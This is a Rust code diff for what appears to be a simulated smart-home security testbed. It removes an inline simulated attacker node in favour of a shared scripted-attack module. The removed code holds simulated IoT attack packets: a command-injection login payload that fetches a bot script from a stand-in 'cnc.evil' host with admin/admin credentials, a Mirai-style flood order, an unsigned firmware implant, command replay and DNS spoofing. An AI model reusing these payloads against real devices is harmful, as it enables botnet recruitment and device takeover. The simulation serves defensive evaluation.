@@ -24,7 +24,7 @@ use crate::aggregate::{FleetAggregator, FleetReport};
 use crate::metrics::FleetMetrics;
 use crate::region::RegionAggregator;
 use crate::snapshot::{KillPoint, ResumePhase, RunCtx, SnapshotError, SnapshotIdentity};
-use crate::spec::{FleetAttack, FleetFault, FleetSpec, HomeSpec, ATTACK_AT_S, LEARNING_END_S};
+use crate::spec::{FleetAttack, FleetFault, FleetSpec, HomeSpec, LEARNING_END_S};
 use crate::supervise::{panic_message, FleetError, HomeOutcome, HomeRunError, ShardError};
 use crossbeam::channel::{Receiver, Sender};
 use std::cell::RefCell;
@@ -34,9 +34,11 @@ use std::panic::{catch_unwind, AssertUnwindSafe};
 use std::rc::Rc;
 use std::time::Instant;
 use xlf_attacks::observer::TrafficAnalyst;
-use xlf_core::framework::{HomeProbe, HomeReport, HomeRunner, XlfHome, VENDOR_DNS_NAME};
+use xlf_attacks::scripted;
+use xlf_cloud::smartapp::SmartApp;
+use xlf_core::framework::{HomeProbe, HomeReport, HomeRunner, XlfHome};
 use xlf_simnet::observer::PacketRecord;
-use xlf_simnet::{Context, Duration, FaultPlan, Medium, Node, NodeId, Packet, SimTime, TimerId};
+use xlf_simnet::{Context, Duration, FaultPlan, Node, SimTime, TimerId};
 use xlf_stream::{WindowBuffer, WindowSummary, STREAM_FEATURES};
 
 /// A home that could not be built. Workers ship this to the aggregator
@@ -58,103 +60,11 @@ impl fmt::Display for HomeBuildError {
 
 impl std::error::Error for HomeBuildError {}
 
-const TIMER_GO: u64 = 900;
-const TIMER_FLOOD_ORDER: u64 = 901;
 const TIMER_CHAOS: u64 = 910;
 
 /// When the chaos node panics its home's simulation (past the attack
 /// window, so a chaos home has real work to lose).
 const CHAOS_PANIC_AT_S: u64 = 210;
-
-/// WAN attacker node injecting this home's stamped attack.
-struct FleetAttacker {
-    gateway: NodeId,
-    victim_sink: NodeId,
-    attack: FleetAttack,
-}
-
-impl Node for FleetAttacker {
-    fn on_start(&mut self, ctx: &mut Context<'_>) {
-        ctx.set_timer(Duration::from_secs(ATTACK_AT_S), TIMER_GO);
-    }
-
-    fn on_timer(&mut self, ctx: &mut Context<'_>, _timer: TimerId, tag: u64) {
-        match (tag, self.attack) {
-            (TIMER_GO, FleetAttack::BotnetRecruit) => {
-                let login = Packet::new(
-                    ctx.id(),
-                    self.gateway,
-                    "login",
-                    b"wget${IFS}http://cnc.evil/bot.sh".to_vec(),
-                )
-                .with_meta("device", "cam")
-                .with_meta("user", "admin")
-                .with_meta("pass", "admin");
-                ctx.send(self.gateway, login);
-                ctx.set_timer(Duration::from_secs(20), TIMER_FLOOD_ORDER);
-            }
-            (TIMER_FLOOD_ORDER, FleetAttack::BotnetRecruit) => {
-                let order = Packet::new(
-                    ctx.id(),
-                    self.gateway,
-                    "attack-cmd",
-                    b"/bin/busybox MIRAI".to_vec(),
-                )
-                .with_meta("device", "cam")
-                .with_meta("target", &self.victim_sink.raw().to_string())
-                .with_meta("count", "300");
-                ctx.send(self.gateway, order);
-            }
-            (TIMER_GO, FleetAttack::FirmwareTamper) => {
-                let image = xlf_device::firmware::FirmwareImage::unsigned(
-                    xlf_device::firmware::Version(9, 9, 9),
-                    "mallory",
-                    b"BOTNET implant".to_vec(),
-                );
-                for i in 0..3u64 {
-                    let ota = Packet::new(ctx.id(), self.gateway, "ota", image.to_bytes())
-                        .with_meta("device", "cam");
-                    ctx.send_after(self.gateway, ota, Duration::from_secs(i));
-                }
-            }
-            (TIMER_GO, FleetAttack::Replay) => {
-                // A command captured during the learning window, replayed
-                // at the actuator long after its triggering event: app
-                // verification has no witnessed cause and denies each one.
-                for i in 0..20u64 {
-                    let cmd = Packet::new(ctx.id(), self.gateway, "cmd", b"on".to_vec())
-                        .with_meta("device", "window")
-                        .with_meta("command", "on");
-                    ctx.send_after(self.gateway, cmd, Duration::from_secs(i));
-                }
-            }
-            (TIMER_GO, FleetAttack::DnsPoison) => {
-                // Off-path spoofing: the attacker cannot see the
-                // resolver's txids, so every guess misses and the
-                // hardened resolver reports each rejection.
-                for i in 0..30u64 {
-                    let txid = 40_000 + 17 * i;
-                    let spoof = Packet::new(
-                        ctx.id(),
-                        self.gateway,
-                        "dns-response",
-                        b"A 6.6.6.6".to_vec(),
-                    )
-                    .with_meta("device", "cam")
-                    .with_meta("name", VENDOR_DNS_NAME)
-                    .with_meta("value", "n666")
-                    .with_meta("txid", &txid.to_string());
-                    ctx.send_after(self.gateway, spoof, Duration::from_secs(i));
-                }
-            }
-            _ => {}
-        }
-    }
-}
-
-/// Passive WAN sink standing in for a DDoS victim.
-struct VictimSink;
-impl Node for VictimSink {}
 
 /// Chaos node for [`FleetFault::ChaosPanic`]: deterministically panics
 /// the home's simulation at a scheduled sim-time, exercising the
@@ -249,17 +159,8 @@ fn build_home_inner(spec: &FleetSpec, hs: &HomeSpec) -> Result<BuiltHome, HomeBu
         })?;
     }
 
-    if hs.attack.is_active() {
-        let victim = home.net.add_node(Box::new(VictimSink));
-        home.net
-            .connect(victim, home.gateway, Medium::Wan.link().with_loss(0.0));
-        let attacker = home.net.add_node(Box::new(FleetAttacker {
-            gateway: home.gateway,
-            victim_sink: victim,
-            attack: hs.attack,
-        }));
-        home.net
-            .connect(attacker, home.gateway, Medium::Wan.link().with_loss(0.0));
+    if let Some(attack) = hs.attack.scripted() {
+        scripted::install(&mut home.net, home.gateway, home.cloud, attack);
     }
 
     // A passive observer adds no nodes and no traffic — the home's
@@ -287,32 +188,14 @@ fn build_home_inner(spec: &FleetSpec, hs: &HomeSpec) -> Result<BuiltHome, HomeBu
     })
 }
 
-/// Installs the §IV-C3 automation: open the window above 80°F (only
-/// spoofed/manipulated readings ever fire it). Fails (instead of
+/// Installs the §IV-C3 auto-window automation. Fails (instead of
 /// panicking) when the home has no cloud node to host the app.
 fn install_auto_window(home: &mut XlfHome) -> Result<(), String> {
-    use xlf_cloud::smartapp::{Action, AppPermissions, Predicate, SmartApp, Trigger};
     let cloud = home
         .net
         .node_as_mut::<xlf_cloud::CloudNode>(home.cloud)
         .ok_or_else(|| format!("no cloud node at {:?} to host automation", home.cloud))?;
-    cloud.cloud_mut().install_app(
-        SmartApp::new(
-            "auto-window",
-            AppPermissions::new().grant("window", xlf_cloud::Capability::Switch),
-        )
-        .rule(
-            Trigger {
-                device: "thermo".into(),
-                attribute: "temperature".into(),
-                predicate: Predicate::GreaterThan(80.0),
-            },
-            Action {
-                device: "window".into(),
-                command: "on".into(),
-            },
-        ),
-    );
+    cloud.cloud_mut().install_app(SmartApp::auto_window());
     Ok(())
 }
 
